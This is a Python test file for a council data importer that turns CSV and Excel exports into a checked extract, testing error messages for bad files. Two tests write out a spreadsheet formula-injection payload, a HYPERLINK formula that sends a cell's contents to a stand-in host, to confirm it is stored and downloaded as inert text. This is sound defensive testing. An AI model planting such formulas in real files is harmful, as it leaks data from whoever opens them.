"""The importer (scrutiny.build_extract): exports in, a checked extract out, or sentences and nothing written.

The exports are the tiny extract written as Wealdshire's own system would write it
(sample_data.export), imported with the shipped mapping (mappings/wealdshire.yaml). Each bad
input of the importer's brief is one test with the sentence it expects; every one of them
also checks that nothing was written and that the source files are unchanged.
"""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import duckdb
import openpyxl
import pytest

from sample_data.export import export
from scrutiny.build_extract import build, main
from scrutiny.contract import TABLES
from scrutiny.extract import REPO_ROOT, table_source
from scrutiny.mapping import MappingError, load_mapping, parse_mapping
from tests import tiny_extract

WEALDSHIRE = REPO_ROOT / "mappings" / "wealdshire.yaml"


@pytest.fixture(scope="session")
def tiny_export(tmp_path_factory) -> Path:
    extract = tiny_extract.write_extract(tmp_path_factory.mktemp("tiny-extract"))
    out = tmp_path_factory.mktemp("tiny-export")
    export(extract, out)
    return out


@pytest.fixture
def exports(tiny_export, tmp_path) -> Path:
    """A copy of the tiny export for one test to spoil."""
    return Path(shutil.copytree(tiny_export, tmp_path / "exports"))


def fingerprint(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}


def wealdshire(pseudonymise: bool = False, **changes):
    mapping = load_mapping(WEALDSHIRE)
    if not pseudonymise:
        mapping.pseudonymise = []
    return mapping


def import_expecting_errors(exports: Path, tmp_path: Path, mapping=None) -> list[str]:
    before = fingerprint(exports)
    out = tmp_path / "extract"
    result = build(exports, out, mapping or wealdshire())
    assert not result.written
    assert not out.exists(), "nothing is written when there is an error"
    assert not list(tmp_path.glob(".building-*")), "the importer's own working folder is removed"
    assert fingerprint(exports) == before, "the source files are never changed"
    return [p.message for p in result.errors]


def table_rows(folder: Path, table: str) -> list[tuple]:
    source = table_source(folder, table)
    scan = f"read_parquet('{source}/**/*.parquet')" if source.is_dir() else f"read_parquet('{source}')"
    columns = ", ".join(
        f'list_sort("{c.name}")' if c.type == "VARCHAR[]" else f'"{c.name}"::{c.type}' for c in TABLES[table].columns
    )
    return sorted(duckdb.sql(f"select {columns} from {scan}").fetchall(), key=repr)


def rewrite(path: Path, old: str, new: str, encoding: str = "utf-8") -> None:
    text = path.read_text(encoding=encoding)
    assert old in text, f"{old!r} is not in {path.name}"
    path.write_text(text.replace(old, new, 1), encoding=encoding)


# ---- a sound export -------------------------------------------------------------------------

def test_the_tiny_export_imports_to_the_extract_it_came_from(tiny_export, tmp_path):
    result = build(tiny_export, tmp_path / "extract", wealdshire())
    assert result.written, [p.message for p in result.errors]
    assert result.tables["attendances"] == 19 and result.tables["children"] == 10
    original = tiny_extract.write_extract(tmp_path / "original")
    for table in TABLES:
        assert table_rows(tmp_path / "extract", table) == table_rows(original, table), table
    info = json.loads((tmp_path / "extract" / "extract.json").read_text(encoding="utf-8"))
    assert info["authority"] == "Wealdshire County Council" and info["extracted_on"] == "2025-06-30"
    assert "pseudonymised" not in info


def test_the_export_in_excel_imports_to_the_same_extract(tmp_path):
    original = tiny_extract.write_extract(tmp_path / "original")
    export(original, tmp_path / "exports", excel=True)
    assert (tmp_path / "exports" / "Sites.xlsx").is_file() and not (tmp_path / "exports" / "Sites.csv").exists()
    result = build(tmp_path / "exports", tmp_path / "extract", wealdshire())
    assert result.written, [p.message for p in result.errors]
    for table in TABLES:
        assert table_rows(tmp_path / "extract", table) == table_rows(original, table), table


def test_child_ids_become_salted_hashes_that_still_join(tiny_export, tmp_path):
    first = build(tiny_export, tmp_path / "one", wealdshire(pseudonymise=True), salt="kept-secret")
    assert first.written
    children = [r[0] for r in table_rows(tmp_path / "one", "children")]
    attended = {r[0] for r in table_rows(tmp_path / "one", "attendances")}
    assert not set(children) & {"K1", "K2", "K3"}, "no real child ID is left"
    assert all(len(c) == 20 for c in children) and attended <= set(children)
    # Worked by hand: the first 20 hexadecimal characters of sha256("kept-secret" + "K1").
    assert hashlib.sha256(b"kept-secretK1").hexdigest()[:20] in children
    info = json.loads((tmp_path / "one" / "extract.json").read_text(encoding="utf-8"))
    assert info["pseudonymised"]["columns"] == ["children.child_id", "children.family_id", "attendances.child_id"]
    assert "salt" in info["pseudonymised"]["method"] and "kept-secret" not in json.dumps(info)
    again = build(tiny_export, tmp_path / "two", wealdshire(pseudonymise=True), salt="kept-secret")
    assert again.written and [r[0] for r in table_rows(tmp_path / "two", "children")] == children
    other = build(tiny_export, tmp_path / "three", wealdshire(pseudonymise=True), salt="another")
    assert not set(r[0] for r in table_rows(tmp_path / "three", "children")) & set(children)


def test_encodings_and_delimiters_a_council_exports(exports, tmp_path):
    # A UTF-8 byte-order mark (Excel's "CSV UTF-8"), and Windows-1252 with a pound sign and curly quote.
    sites = exports / "Sites.csv"
    text = sites.read_text(encoding="cp1252")
    assert "Old Mill Centre" in text
    text = text.replace("Old Mill Centre", "Café ‘A’ £")
    sites.write_bytes(text.encode("cp1252"))
    areas = exports / "Areas.csv"
    areas.write_bytes(b"\xef\xbb\xbf" + areas.read_text(encoding="utf-8").replace(",", "\t").encode("utf-8"))
    result = build(exports, tmp_path / "extract", wealdshire())
    assert result.written, [p.message for p in result.errors]
    names = [r[1] for r in table_rows(tmp_path / "extract", "centres")]
    assert "Café ‘A’ £" in names
    assert len(table_rows(tmp_path / "extract", "areas")) == 5


def test_an_earlier_extract_is_replaced_only_by_a_sound_one(exports, tmp_path):
    out = tmp_path / "extract"
    assert build(exports, out, wealdshire()).written
    before = fingerprint(out)
    rewrite(exports / "Children.csv", "01/07/2022", "31/02/2022")
    assert not build(exports, out, wealdshire()).written
    assert fingerprint(out) == before


def test_the_command_prints_sentences_and_exits_non_zero(exports, tmp_path, capsys):
    rewrite(exports / "Children.csv", "01/07/2022", "31/02/2022")
    code = main([str(exports), str(tmp_path / "extract"), "--mapping", str(WEALDSHIRE), "--quiet"])
    printed = capsys.readouterr().out
    assert code == 1 and "ERROR: Children.csv has 1 row whose Registration Date" in printed
    assert "nothing was written" in printed and "Traceback" not in printed


def test_without_a_mapping_files_named_like_the_tables_are_read(tmp_path):
    original = tiny_extract.write_extract(tmp_path / "original")
    folder = tmp_path / "exports"
    folder.mkdir()
    for table in TABLES:
        duckdb.sql(f"copy (select * from read_parquet('{table_source(original, table)}')) to '{folder / table}.csv' (header)")
    result = build(folder, tmp_path / "extract")
    assert result.written, [p.message for p in result.errors]
    for table in TABLES:
        assert table_rows(tmp_path / "extract", table) == table_rows(original, table), table


# ---- bad input: each gets a sentence, and nothing is written -----------------------------------

def test_a_missing_required_column(exports, tmp_path):
    mapping = wealdshire()
    mapping.tables["children"].rules["registered_on"].source = None
    errors = import_expecting_errors(exports, tmp_path, mapping)
    assert errors == [
        "Children.csv has no column for the children table's registered_on, which is required: add a line  "
        "registered_on: <the export's column>  under children's columns in the mapping (the file's columns: Child Ref, "
        "Family Ref, Home LSOA, Registered At, Registration Date, Month of Birth, Lone Parent, Teenage Parent, "
        "Workless Household, BME, Disabled Child, CP Plan, Child in Need, Supporting Families, 2YO Funded)."
    ]


def test_a_column_the_mapping_names_but_the_file_lacks(exports, tmp_path):
    rewrite(exports / "Children.csv", "Registration Date", "Date Registered")
    errors = import_expecting_errors(exports, tmp_path)
    assert len(errors) == 1
    assert errors[0].startswith(
        "The mapping takes the children table's registered_on from 'Registration Date', but Children.csv has no column "
        "of that name (its columns: Child Ref, Family Ref, Home LSOA, Registered At, Date Registered,"
    )
    assert errors[0].endswith("): correct the name in the mapping.")


def test_a_date_the_importer_cannot_read(exports, tmp_path):
    rewrite(exports / "Children.csv", "01/07/2022", "31/02/2022")
    errors = import_expecting_errors(exports, tmp_path)
    # K2 is the second child, so the third row of the file counting the header.
    assert errors == [
        "Children.csv has 1 row whose Registration Date (the children table's registered_on) is not usable, which the "
        "importer cannot read as a date (the mapping reads dates day first, as 31/12/2024). Correct them, or set dates: "
        "in the mapping to the export's form; for example row 3 ('31/02/2022')."
    ]


def test_a_number_with_a_thousands_separator(exports, tmp_path):
    path = exports / "Population.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    lines[2] = lines[2].rsplit(",", 1)[0] + ',"1,200"'
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    errors = import_expecting_errors(exports, tmp_path)
    assert errors == [
        "Population.csv has 1 row whose Under 5s (the population table's children) is not usable, which has a thousands "
        "separator: export numbers without separators (in Excel, Format Cells, Number, untick 'Use 1000 Separator'); "
        "for example row 3 ('1,200')."
    ]


def test_a_number_with_a_trailing_space(exports, tmp_path):
    path = exports / "Footfall.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    cells = lines[1].split(",")
    cells[2] = cells[2] + " "
    lines[1] = ",".join(cells)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    errors = import_expecting_errors(exports, tmp_path)
    assert len(errors) == 1
    assert errors[0].startswith("Footfall.csv has 1 row whose Visits (the footfall table's visits) is not usable, which "
                                "has a space before or after the number: remove the spaces and export again; for example row 2 (")


def test_a_file_in_the_wrong_encoding(exports, tmp_path):
    path = exports / "Consultation.csv"
    path.write_bytes(path.read_text(encoding="utf-8").encode("utf-16"))
    errors = import_expecting_errors(exports, tmp_path)
    assert errors == [
        "Consultation.csv is saved as UTF-16 ('Unicode text'), which the importer does not read: save it from Excel as "
        "'CSV UTF-8 (comma delimited)' and try again."
    ]


def test_a_file_that_is_not_the_encoding_the_mapping_says(exports, tmp_path):
    mapping = wealdshire()
    mapping.tables["centres"].encoding = "utf-8"
    rewrite(exports / "Sites.csv", "Eastfield", "Café", encoding="cp1252")
    errors = import_expecting_errors(exports, tmp_path, mapping)
    assert errors == [
        "Sites.csv is not UTF-8 text, as the mapping says it is: row 2 has a character in another encoding. "
        "Save it from Excel as 'CSV UTF-8', or set encoding: windows-1252 in the mapping."
    ]


def _sites_workbook(exports: Path) -> Path:
    """Sites.csv as Sites.xlsx (the mapping's Sites.* takes either)."""
    rows = [line.split(",") for line in (exports / "Sites.csv").read_text(encoding="cp1252").splitlines()]
    (exports / "Sites.csv").unlink()
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Sites"
    for row in rows:
        sheet.append(row)
    book.save(exports / "Sites.xlsx")
    return exports / "Sites.xlsx"


def test_an_excel_file_with_merged_header_cells(exports, tmp_path):
    path = _sites_workbook(exports)
    book = openpyxl.load_workbook(path)
    book["Sites"].merge_cells("I1:J1")
    book.save(path)
    errors = import_expecting_errors(exports, tmp_path)
    assert errors == [
        "Sites.xlsx, sheet Sites has merged cells in its header (I1:J1): unmerge them so that every column has its "
        "own heading in one row, and try again."
    ]


def test_an_excel_file_with_a_total_row_at_the_bottom(exports, tmp_path):
    path = _sites_workbook(exports)
    book = openpyxl.load_workbook(path)
    book["Sites"].append(["Total", 4])
    book.save(path)
    errors = import_expecting_errors(exports, tmp_path)
    assert errors == [
        "Sites.xlsx, sheet Sites ends with a total row (row 6, 'Total'): delete it and try again; the dashboard works "
        "out its own totals."
    ]


def test_a_csv_with_a_total_row_at_the_bottom(exports, tmp_path):
    with (exports / "Footfall.csv").open("a", encoding="utf-8") as handle:
        handle.write("Grand total,,40,,\n")
    errors = import_expecting_errors(exports, tmp_path)
    assert errors == [
        "Footfall.csv ends with a total row ('Grand total,,40,,'): delete it and export again; the dashboard works "
        "out its own totals."
    ]


def test_an_empty_file(exports, tmp_path):
    (exports / "Indicators.csv").write_bytes(b"")
    errors = import_expecting_errors(exports, tmp_path)
    assert errors == ["Indicators.csv is empty (0 bytes): export the indicators table again."]


def test_a_csv_with_a_ragged_row(exports, tmp_path):
    path = next(exports.glob("Attendances 2023-24.csv"))
    lines = path.read_text(encoding="utf-8").splitlines()
    lines[2] += ";Hall 2"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    errors = import_expecting_errors(exports, tmp_path)
    assert errors == [
        "Attendances 2023-24.csv has 1 row that cannot be read, for example row 3 (more values than the header has "
        "columns; rows: 3): a value probably holds the delimiter or a stray quote. Correct them and export again."
    ]


def test_two_files_mapped_to_one_table_with_different_columns(exports, tmp_path):
    rewrite(exports / "Attendances 2024-25.csv", "Service Level", "Tier")
    errors = import_expecting_errors(exports, tmp_path)
    assert errors == [
        "Attendances 2021-22.csv and Attendances 2024-25.csv are both read into the attendances table but their columns "
        "differ (Attendances 2024-25.csv lacks Service Level; has Tier): export them with the same columns, or map them "
        "to the table separately."
    ]


def test_a_formula_in_a_text_field_is_kept_as_plain_text(exports, tmp_path):
    hostile = '=HYPERLINK("http://example.invalid/x","Click")'
    path = exports / "Consultation.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    comment = header.index("Comment")
    import csv, io
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    rows[1][comment] = hostile
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    result = build(exports, tmp_path / "extract", wealdshire())
    assert result.written
    warnings = [p.message for p in result.problems if not p.is_error]
    assert (
        "Consultation.csv has text that a spreadsheet would run as a formula in Comment (the feedback table's comment), "
        "for example row 2 ('=HYPERLINK(\"http://example.invalid/x\"...'). It is kept as plain text, never run, and "
        "the dashboard's downloads mark it so that a spreadsheet shows it as text."
    ) in warnings
    comments = [r[6] for r in table_rows(tmp_path / "extract", "feedback")]
    assert hostile in comments


def test_a_value_the_contract_refuses_names_the_source_file_and_row(exports, tmp_path):
    # Validation's own sentence, with the export's file and row added: the library is row 5 of Sites.csv.
    rewrite(exports / "Sites.csv", ",Library,", ",Mobile Library,", encoding="cp1252")
    errors = import_expecting_errors(exports, tmp_path)
    assert len(errors) == 1
    assert errors[0].startswith("The centres table has 1 row with a site_type outside the allowed codes")
    assert "row 4 (Sites.csv row 5; centre_id=L1, site_type=Mobile Library)" in errors[0]


def test_rows_of_a_table_read_from_several_files_are_traced_to_their_file(exports, tmp_path):
    rewrite(exports / "Attendances 2024-25.csv", "Universal", "Drop-in")
    errors = import_expecting_errors(exports, tmp_path)
    assert len(errors) == 1 and "tier=Drop-in" in errors[0]
    assert "(Attendances 2024-25.csv row 2; " in errors[0]


def test_a_mapping_naming_no_contract_table():
    with pytest.raises(MappingError, match="names a table 'sessions', which is not in the data contract"):
        parse_mapping({"tables": {"sessions": {"source": "x.csv"}}})
    with pytest.raises(MappingError, match="'child_ref' is not a column of the children table"):
        parse_mapping({"tables": {"children": {"source": "x.csv", "columns": {"child_ref": "Child Ref"}}}})


def test_an_imported_formula_leaves_every_dashboard_csv_as_text(exports, tmp_path, monkeypatch, downloads):
    """The hostile comment, imported as plain text, comes out of the Feedback page's downloads behind
    an apostrophe (scrutiny.cell_safety), so a spreadsheet shows it and never runs it."""
    import csv
    import io

    from scrutiny.cell_safety import is_formula_like
    from tests.helpers import open_app

    hostile = '=HYPERLINK("http://example.invalid/?leak="&A1;"Click")'
    path = exports / "Consultation.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    comment = rows[0].index("Comment")
    for row in rows[1:]:
        row[comment] = hostile
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    assert build(exports, tmp_path / "extract", wealdshire()).written
    assert hostile in [r[6] for r in table_rows(tmp_path / "extract", "feedback")]

    monkeypatch.setenv("DASHBOARD_DATA_DIR", str(tmp_path / "extract"))
    at = open_app("pages/feedback.py")
    assert not at.exception, [e.message for e in at.exception]
    cells = [cell for name, data in downloads.items() if name and name.endswith(".csv")
             for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
    assert cells and [cell for cell in cells if is_formula_like(cell)] == []
    # The quotes download is built only when clicked: the same writer, given the imported comments.
    import pandas as pd

    from scrutiny import ui

    comments = pd.DataFrame({"Quote": [r[6] for r in table_rows(tmp_path / "extract", "feedback")]})
    data = ui.csv_bytes(comments, "Quotes", None, "feedback table")
    quoted = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
    assert "'" + hostile in quoted and [cell for cell in quoted if is_formula_like(cell)] == []
